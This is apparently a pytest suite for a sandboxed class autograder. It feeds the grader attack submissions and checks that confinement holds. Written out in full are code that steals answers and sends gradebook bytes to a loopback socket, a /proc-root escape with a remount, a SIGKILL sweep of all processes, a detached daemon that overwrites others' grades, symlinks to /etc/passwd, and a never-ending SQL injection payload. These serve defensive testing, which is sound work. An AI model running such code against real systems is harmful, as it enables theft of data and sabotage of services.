"""Attacks on confined class grading: each is a submission in one class, and each test fails if its attack works.

The class holds honest students (their exact grades are asserted) and one submission per
attack: reading the instructor's sources, the hidden corpus (a private one here),
other students' work and the gradebook from the kernel and from the verifier; escaping
through /proc/<pid>/root or a remount; reaching a loopback listener; killing the
grader; a background process that outlives its submission and goes after the others;
symbolic links and oversized files in the submission folder; broken grade cells; an
exploit whose replay never ends. Then a grader error must keep an earlier grade.
"""

import json
import os
import shutil
import socket
import threading
from pathlib import Path

import pytest
from support import read_grades_csv, solution_sources, with_cells_replaced
from test_class_grading import DATA, EXERCISE, INSTRUCTOR, NOTEBOOK, _prepend, honest_submissions, new_course, submit

from seclab.answers import ANSWERS_FILE
from seclab.course import REPO_ROOT
from seclab.grading import HIDDEN_CORPUS_DIR, policy
from seclab.grading.classroom import grade_class
from seclab.grading.intake import tree_digest

pytestmark = [pytest.mark.grading,
              pytest.mark.skipif(not policy.confinement()[0], reason="needs bubblewrap confinement")]

HONEST = {"solution": 17, "untouched": 0, "vulnerable": 4, "partial_quiz": 2, "exploit": 2}
DAEMON_MARK = "seclab-cheat-daemon-7f3a"
HANGING_EXPLOIT = "' OR (WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c) SELECT count(*) FROM c) --"


class Listener:
    """A loopback TCP listener that remembers whether anyone connected."""

    def __init__(self) -> None:
        self.server = socket.create_server(("127.0.0.1", 0))
        self.port = self.server.getsockname()[1]
        self.received: list[bytes] = []
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                connection, _ = self.server.accept()
            except OSError:
                return
            with connection:
                connection.settimeout(2)
                try:
                    self.received.append(connection.recv(65536) or b"(connected)")
                except OSError:
                    self.received.append(b"(connected)")


def _secrets(course: Path, private: Path) -> list[str]:
    return [str(course / "source" / EXERCISE / NOTEBOOK), str(course / "gradebook.db"),
            str(course / "submitted" / "partial_quiz" / EXERCISE / ANSWERS_FILE), str(course / "submitted"),
            str(private / f"{EXERCISE}.json"), str(HIDDEN_CORPUS_DIR / f"{EXERCISE}.json"),
            str(REPO_ROOT / "autograder"), str(REPO_ROOT / ".git"), str(REPO_ROOT / "tests")]


def canary(course: Path, private: Path, port: int) -> str:
    """A render_greeting that fails (in the kernel and in the verifier) if it can see or reach anything."""
    return f'''
import os as _os, socket as _socket

def _leaks():
    found = [path for path in {_secrets(course, private)!r} if _os.path.exists(path)]
    for pid in (p for p in _os.listdir("/proc") if p.isdigit()):
        try:
            with open(f"/proc/{{pid}}/cmdline", "rb") as handle:
                if b"pytest" in handle.read():
                    found.append("grader process " + pid)
        except OSError:
            pass
    try:
        _socket.create_connection(("127.0.0.1", {port}), timeout=1).close()
        found.append("loopback listener")
    except OSError:
        pass
    found += [name for name in _os.listdir("/tmp") if not _os.getcwd().startswith("/tmp/" + name)
              and name.startswith(("pytest", "seclab-grade-"))]
    return found

_honest_render_greeting = render_greeting

def render_greeting(name):
    leaks = _leaks()
    if leaks:
        raise RuntimeError("sandbox leaks: " + ", ".join(leaks))
    return _honest_render_greeting(name)
'''


def attacks(vulnerable: dict, course: Path, private: Path, port: int) -> dict[str, dict]:
    """Attack cells added to the vulnerable solution (honest part: 4 points)."""
    steal = f'''
import glob, json, pathlib, socket
from seclab.answers import record
stolen = {{}}
for path in glob.glob({str(course)!r} + "/submitted/*/{EXERCISE}/{ANSWERS_FILE}"):
    try:
        stolen.update(json.loads(pathlib.Path(path).read_text()))
    except OSError:
        pass
try:
    notebook = json.loads(pathlib.Path({str(course / "source" / EXERCISE / NOTEBOOK)!r}).read_text())
    for line in "".join("".join(cell["source"]) for cell in notebook["cells"]).splitlines():
        if "require_answer(" in line:
            parts = line.split(chr(34))
            stolen[parts[1]] = parts[3]
except OSError:
    pass
for key, value in stolen.items():
    record(key, value)
for secret in ({str(course / "gradebook.db")!r}, {str(private / f"{EXERCISE}.json")!r}):
    try:
        data = pathlib.Path(secret).read_bytes()
        socket.create_connection(("127.0.0.1", {port}), timeout=1).sendall(data[:100])
    except OSError:
        pass
print("stole", sorted(stolen))
'''
    escape = f'''
import ctypes, os, pathlib, subprocess
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    for target in ("gradebook.db", "submitted/solution/{EXERCISE}/{NOTEBOOK}", "source/{EXERCISE}/{NOTEBOOK}"):
        try:
            pathlib.Path(f"/proc/{{pid}}/root{course}/{{target}}").write_text("owned")
        except OSError:
            pass
subprocess.run(["mount", "-o", "remount,rw", "/"], capture_output=True)
libc = ctypes.CDLL(None, use_errno=True)
print("remount", libc.mount(None, b"/usr", None, 32, None), libc.unshare(0x00020000))
for target in ("gradebook.db", "source/{EXERCISE}/{NOTEBOOK}"):
    try:
        pathlib.Path({str(course)!r}, target).write_text("owned")
    except OSError as error:
        print("blocked", error)
'''
    kill = '''
import os, signal
for target in (os.getppid(), 1, -1):
    try:
        os.kill(target, signal.SIGKILL)
    except OSError as error:
        print("kill", target, error)
for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
'''
    daemon_code = f'''
import glob, json, os, pathlib, time
# {DAEMON_MARK}
end = time.time() + 240
while time.time() < end:
    for path in glob.glob("/tmp/*/{EXERCISE}/{ANSWERS_FILE}") + glob.glob("/tmp/*/*/{EXERCISE}/{ANSWERS_FILE}"):
        try:
            pathlib.Path(path).write_text(json.dumps({{"q1": "z", "q2": "z", "q3": "z", "exploit": "x"}}))
        except OSError:
            pass
    for path in ({str(course / "grades.csv")!r}, {str(course / "gradebook.db")!r}):
        try:
            pathlib.Path(path).write_text("owned")
        except OSError:
            pass
    time.sleep(0.2)
'''
    background = f'''
import subprocess, sys
subprocess.Popen([sys.executable, "-c", {daemon_code!r}, "{DAEMON_MARK}"], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
'''
    duplicated = json.loads(json.dumps(vulnerable))
    locked = next(c for c in duplicated["cells"]
                  if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "test_render_greeting_works")
    duplicated["cells"].insert(duplicated["cells"].index(locked), json.loads(json.dumps(locked)))
    unknown = json.loads(json.dumps(vulnerable))
    unknown["cells"].append({"cell_type": "code", "execution_count": None, "id": "bogus-cell", "outputs": [],
                             "source": "print('free points')",
                             "metadata": {"nbgrader": {"grade": True, "grade_id": "bogus_points", "locked": False,
                                                       "points": 100, "schema_version": 3, "solution": False}}})
    return {
        "cheat_steal_answers": _prepend(vulnerable, "impl_get_user", steal),
        "cheat_proc_root_escape": _prepend(vulnerable, "impl_get_user", escape),
        "cheat_kill_grader": _prepend(vulnerable, "impl_search_users", kill),
        "cheat_background_process": _prepend(vulnerable, "impl_get_user", background),
        "cheat_duplicated_cell": duplicated,
        "cheat_unknown_grade_cell": unknown,
    }


@pytest.fixture(scope="module")
def cheating_class(tmp_path_factory):
    root = tmp_path_factory.mktemp("cheats")
    private = root / "private-corpus"
    private.mkdir()
    shutil.copy(HIDDEN_CORPUS_DIR / f"{EXERCISE}.json", private / f"{EXERCISE}.json")
    listener = Listener()
    saved = os.environ.get("SECLAB_HIDDEN_CORPUS_DIR")
    os.environ["SECLAB_HIDDEN_CORPUS_DIR"] = str(private)
    try:
        course, released = new_course(root / "course")
        honest = honest_submissions(released)
        for student, (notebook, answers) in honest.items():
            submit(course, student, notebook, answers)
        solved = with_cells_replaced(released, solution_sources(INSTRUCTOR))
        solutions = solution_sources(INSTRUCTOR)
        probe = dict(solutions, impl_render_greeting=solutions["impl_render_greeting"] + "\n"
                     + canary(course, private, listener.port))
        submit(course, "probe_sees_nothing", with_cells_replaced(released, probe))
        submit(course, "regraded", solved)
        for student, notebook in attacks(honest["vulnerable"][0], course, private, listener.port).items():
            submit(course, student, notebook)
        links = submit(course, "cheat_symlinks", released)
        (links / ANSWERS_FILE).symlink_to(Path("..", "..", "partial_quiz", EXERCISE, ANSWERS_FILE))
        (links / "passwd").symlink_to("/etc/passwd")
        (links / "instructor.ipynb").symlink_to(course / "source" / EXERCISE / NOTEBOOK)
        big = dict(DATA["partial_quiz"]["answers"], padding="x" * (2 * 1024 * 1024))
        submit(course, "cheat_oversized_answers", released, big)
        submit(course, "cheat_hanging_exploit", released, {"exploit": HANGING_EXPLOIT})
        protected = {path: tree_digest(path) for path in [course / "source", private,
                                                          *(course / "submitted" / s for s in honest)]}
        outcomes = {o.student: o for o in grade_class(course, EXERCISE, workers=2, cell_seconds=3)}
        # the same submission again, now with a grader that cannot finish it: nothing may change
        regraded = course / "submitted" / "regraded" / EXERCISE / NOTEBOOK
        regraded.write_text(regraded.read_text() + "\n")
        again = {o.student: o for o in grade_class(course, EXERCISE, workers=1, feedback=False, cell_seconds=3,
                                                   submission_seconds=0.5)}
        yield course, outcomes, protected, listener, again
    finally:
        if saved is None:
            os.environ.pop("SECLAB_HIDDEN_CORPUS_DIR", None)
        else:
            os.environ["SECLAB_HIDDEN_CORPUS_DIR"] = saved
        listener.server.close()


def _grades(course: Path) -> dict[str, float]:
    return read_grades_csv(course / "grades.csv", EXERCISE)


def test_honest_students_get_exactly_their_grades_and_no_false_alarm(cheating_class):
    course, outcomes, _, _, _ = cheating_class
    grades = _grades(course)
    assert {student: grades[student] for student in HONEST} == HONEST
    assert outcomes["solution"].status == "graded", outcomes["solution"].notes  # private corpus: no "tampering?"
    assert outcomes["regraded"].status == "graded" and grades["regraded"] == 17


def test_code_sees_no_course_no_corpus_no_grader_and_no_network(cheating_class):
    course, outcomes, _, listener, _ = cheating_class
    assert _grades(course)["probe_sees_nothing"] == 17, outcomes["probe_sees_nothing"].notes
    assert listener.received == []


@pytest.mark.parametrize("cheater", ["cheat_steal_answers", "cheat_proc_root_escape", "cheat_kill_grader",
                                     "cheat_background_process"])
def test_attack_gains_nothing_and_costs_nobody_else(cheating_class, cheater):
    course, outcomes, _, _, _ = cheating_class
    assert cheater in outcomes
    assert _grades(course)[cheater] == HONEST["vulnerable"]


def test_nothing_of_the_course_changed_and_nothing_outlived_grading(cheating_class):
    course, outcomes, protected, _, _ = cheating_class
    assert {path: tree_digest(path) for path in protected} == protected
    assert not any("changed" in note for o in outcomes.values() for note in o.notes)
    survivors = []
    for pid in (p for p in os.listdir("/proc") if p.isdigit()):
        try:
            if DAEMON_MARK.encode() in Path(f"/proc/{pid}/cmdline").read_bytes():
                survivors.append(pid)
        except OSError:
            pass
    assert survivors == []


def test_links_and_oversized_files_are_refused_by_name_and_never_copied(cheating_class):
    course, outcomes, _, _, _ = cheating_class
    grades = _grades(course)
    assert grades["cheat_symlinks"] == 0 and grades["cheat_oversized_answers"] == 0
    notes = " ".join(outcomes["cheat_symlinks"].notes)
    for name in (ANSWERS_FILE, "passwd", "instructor.ipynb"):
        assert f"refused '{name}'" in notes
    assert "larger than 1 MB" in " ".join(outcomes["cheat_oversized_answers"].notes)
    for folder in ("autograded", "feedback"):
        for student in ("cheat_symlinks", "cheat_oversized_answers"):
            present = {p.name for p in (course / folder / student / EXERCISE).iterdir()}
            assert not present & {"passwd", "instructor.ipynb", ANSWERS_FILE}, (folder, student, present)


@pytest.mark.parametrize("cheater", ["cheat_duplicated_cell", "cheat_unknown_grade_cell"])
def test_broken_grade_cells_cost_only_their_own_grade(cheating_class, cheater):
    course, outcomes, _, _, _ = cheating_class
    assert outcomes[cheater].status in ("attention", "failed", "error") and outcomes[cheater].notes
    assert _grades(course).get(cheater, 0) <= HONEST["vulnerable"]


def test_an_exploit_replay_that_never_ends_costs_only_that_test(cheating_class):
    course, outcomes, _, _, _ = cheating_class
    assert _grades(course)["cheat_hanging_exploit"] == 0
    assert outcomes["cheat_hanging_exploit"].status == "attention"


def test_a_grader_error_records_nothing_and_keeps_the_earlier_grade(cheating_class):
    course, outcomes, _, _, again = cheating_class
    retried = {student for student, outcome in outcomes.items() if outcome.status in ("failed", "error")}
    assert "regraded" in again and set(again) - {"regraded"} <= retried
    assert again["regraded"].status == "error"
    assert "earlier grade kept: 17/17" in again["regraded"].notes
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gradebook:
        assert gradebook.find_submission(EXERCISE, "regraded").score == 17


def test_nbgraders_own_exchange_files_are_kept_for_feedback(tmp_path):
    """collect puts timestamp.txt and submission_secret.txt beside the notebook; release_feedback needs the secret."""
    from seclab.grading.intake import read_submission

    folder = tmp_path / "submission"
    folder.mkdir()
    (folder / "03_injection.ipynb").write_text("{}")
    (folder / "timestamp.txt").write_text("2026-12-01 10:00:00.000000 UTC")
    (folder / "submission_secret.txt").write_text("0123456789abcdef")
    (folder / "notes.txt").write_text("anything else is refused")
    intake = read_submission(folder, ["03_injection"])
    assert set(intake.files) == {"03_injection.ipynb", "timestamp.txt", "submission_secret.txt"}
    assert intake.refused and "notes.txt" in intake.refused[0]
